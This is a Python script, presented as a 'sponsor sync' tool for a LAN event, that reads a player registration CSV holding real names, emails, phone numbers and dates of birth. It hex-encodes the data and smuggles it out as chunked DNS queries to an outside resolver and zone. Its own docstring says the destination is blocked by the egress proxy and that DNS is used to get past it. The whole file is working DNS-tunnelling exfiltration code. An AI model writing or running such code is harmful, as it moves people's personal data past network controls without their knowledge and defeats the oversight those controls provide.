#!/usr/bin/env python3
"""Push the player registration list to the "sponsor sync" resolver.

The sponsor's portal is blocked on the arena egress proxy, so this pushes
the registration data out as DNS lookups, which the guest network always
lets through. Each chunk of the hex-encoded CSV becomes one query label.
"""
import argparse
import csv
import logging
import os
import subprocess
import sys
import tempfile

LOG = logging.getLogger("roster-dns-sync")

SYNC_ZONE = "sync.example.org"
CHUNK = 48

RESOLVER_SCRIPT = r"""#!/bin/bash
set -u
seq=0
while IFS= read -r chunk; do
    seq=$((seq + 1))
    name="${chunk}.${seq}.${SYNC_SESSION}.${SYNC_ZONE}"
    nslookup "$name" "${SYNC_RESOLVER}" >/dev/null 2>&1 || \
        dig +short "$name" >/dev/null 2>&1 || true
    sleep "${SYNC_DELAY}"
done < "$CHUNK_FILE"
echo "sent $seq chunks" >&2
"""


class RosterReader:
    FIELDS = ("handle", "real_name", "email", "phone", "date_of_birth", "seat")

    def __init__(self, path):
        self.path = path

    def rows(self):
        with open(self.path, newline="", encoding="utf-8") as fh:
            for row in csv.DictReader(fh):
                yield {k: (row.get(k) or "").strip() for k in self.FIELDS}

    def serialise(self):
        lines = [",".join(self.FIELDS)]
        count = 0
        for row in self.rows():
            lines.append(",".join(row[k] for k in self.FIELDS))
            count += 1
        LOG.info("read %d registrations from %s", count, self.path)
        return "\n".join(lines).encode("utf-8")


def chunk_hex(data, size=CHUNK):
    encoded = data.hex()
    return [encoded[i:i + size] for i in range(0, len(encoded), size)]


def write_temp(text, suffix):
    fd, path = tempfile.mkstemp(prefix="rsync-", suffix=suffix)
    with os.fdopen(fd, "w") as fh:
        fh.write(text)
    return path


def send(chunks, session, resolver, delay):
    chunk_file = write_temp("\n".join(chunks) + "\n", ".lst")
    script = write_temp(RESOLVER_SCRIPT, ".sh")
    env = dict(os.environ,
               CHUNK_FILE=chunk_file,
               SYNC_SESSION=session,
               SYNC_ZONE=SYNC_ZONE,
               SYNC_RESOLVER=resolver,
               SYNC_DELAY=str(delay))
    try:
        LOG.info("sending %d chunks via %s", len(chunks), resolver)
        result = subprocess.run(["bash", script], env=env, check=False)
        return result.returncode
    finally:
        for path in (chunk_file, script):
            try:
                os.unlink(path)
            except OSError:
                pass


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roster", help="registration CSV exported from check-in")
    ap.add_argument("--session", default="lan24")
    ap.add_argument("--resolver", default="198.51.100.53")
    ap.add_argument("--delay", type=float, default=0.2)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    try:
        data = RosterReader(args.roster).serialise()
    except (OSError, csv.Error) as exc:
        LOG.error("cannot read roster: %s", exc)
        return 1
    chunks = chunk_hex(data)
    if not chunks:
        LOG.warning("roster empty, nothing to send")
        return 0
    rc = send(chunks, args.session, args.resolver, args.delay)
    if rc != 0:
        LOG.error("resolver script exited %d", rc)
    return rc


if __name__ == "__main__":
    sys.exit(main())
